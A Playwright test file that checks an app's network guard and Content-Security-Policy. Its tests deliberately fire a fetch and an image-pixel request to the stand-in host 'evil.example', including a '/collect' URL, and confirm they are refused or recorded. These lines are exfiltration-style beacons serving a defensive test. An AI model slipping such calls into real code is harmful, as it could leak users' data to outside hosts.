/**
 * The suite-wide guard (fixtures/test.ts) must itself work: a request to another origin, from the test's page
 * or a second page, is caught and refused, and a Content-Security-Policy violation is recorded. Each
 * test provokes one on purpose, checks the guard saw it, then clears what it saw so the test can pass.
 */
import { expect, test } from './fixtures/test.ts'

test.use({ expectedConsoleErrors: /evil\.example|Failed to load resource|Content Security Policy/ })

// The app's own pages cannot even try (their policy's connect-src stops such a fetch first, as the last test
// shows), so the guard's own check is exercised from a same-origin document without that policy.
test('a request to another origin is caught and refused', async ({ page, problems }) => {
  await page.goto('./favicon.svg')
  const fromPage = await page.evaluate(async () => {
    try {
      await fetch('http://evil.example/collect?from=page', { mode: 'no-cors' })
      return 'sent'
    } catch {
      return 'refused'
    }
  })
  expect(fromPage).toBe('refused')
  expect(problems.filter((p) => p.includes('evil.example'))).not.toEqual([])
  problems.length = 0
})

test('a second page of the test is guarded as well', async ({ context, guardPage, problems }) => {
  const other = await context.newPage()
  guardPage(other)
  await other.goto('./favicon.svg')
  await other.evaluate(() => fetch('https://evil.example/second-page', { mode: 'no-cors' }).catch(() => undefined))
  expect(problems.some((p) => p.includes('https://evil.example/second-page'))).toBe(true)
  problems.length = 0
})

test('a Content-Security-Policy violation is recorded, and the blocked request never leaves', async ({ app, page, problems }) => {
  await app.open()
  // img-src allows only the app's origin (and data:/blob:): the policy blocks this before any request is made.
  await page.evaluate(() => {
    const img = new Image()
    img.src = 'https://evil.example/pixel.png'
    document.body.append(img)
  })
  await expect.poll(() => page.evaluate(() => window.__cspViolations?.length ?? 0)).toBeGreaterThan(0)
  expect(await page.evaluate(() => window.__cspViolations?.[0] ?? '')).toContain('img-src')
  expect(problems.filter((p) => p.startsWith('request to another origin'))).toEqual([])
  await page.evaluate(() => {
    document.querySelector('img[src^="https://evil"]')?.remove()
    if (window.__cspViolations) window.__cspViolations.length = 0
  })
})
